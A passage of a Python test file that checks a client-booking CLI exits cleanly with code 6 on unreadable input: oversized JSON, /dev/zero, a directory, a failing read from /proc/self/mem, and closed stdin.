    endless_value.write_text('[{"email": "' + "a" * (4 << 20))
    with mock.patch.object(formats, "MAX_VALUE_BYTES", 1 << 20):  # the real bound is 64 MB
        result = bapp("import", "clients", str(endless_value))
    assert result.exit_code == 6 and "line 1: a JSON value longer than 1048576 bytes" in result.stderr
    listing = bapp("calendly", "sync", "--from-file", "/dev/zero")
    assert listing.exit_code == 6 and "--from-file: cannot read /dev/zero: larger than 256 MB" in listing.stderr
    folder = bapp("calendly", "sync", "--from-file", str(tmp_path))
    assert folder.exit_code == 6 and f"--from-file: cannot read {tmp_path}: Is a directory" in folder.stderr
    assert clients_in(bapp) == []


def test_a_read_that_fails_midway_or_a_closed_stdin_is_exit_6_not_a_crash(bapp: Bapp, tmp_path: Path) -> None:
    # /proc/self/mem opens but refuses reads at offset 0 (EIO), as a failing disk or a dropped mount would
    for fmt in formats.FORMATS:
        result = bapp("import", "clients", "/proc/self/mem", "--input-format", fmt)
        assert result.exit_code == 6, (fmt, result.stderr)
        assert "the input could not be read (Input/output error); nothing was written" in result.stderr, fmt
    # `bapp import clients - <&-`: Python starts with sys.stdin None
    for command in (
        ("import", "clients", "-", "--input-format", "csv"),
        ("badges", "verify", "-"),
        ("bookings", "create", "--client", "a@b.example", "--session", "1", "--start", "2031-01-01T10:00Z",
         "--answers-file", "-"),
    ):  # fmt: skip
        real = subprocess.run(
            [sys.executable, "-m", "bapp_cli", *command],
            env={**os.environ, "BAPP_DATABASE_URL": bapp.database_url, "BAPP_CONFIG": str(tmp_path / "none.toml")},
            stdin=subprocess.DEVNULL, capture_output=True, text=True, cwd=REPO,
            preexec_fn=lambda: os.close(0),
        )  # fmt: skip
        assert real.returncode == 6, (command, real.stderr)
        assert "cannot read stdin: it is closed" in real.stderr and "unexpected" not in real.stderr
    assert clients_in(bapp) == []
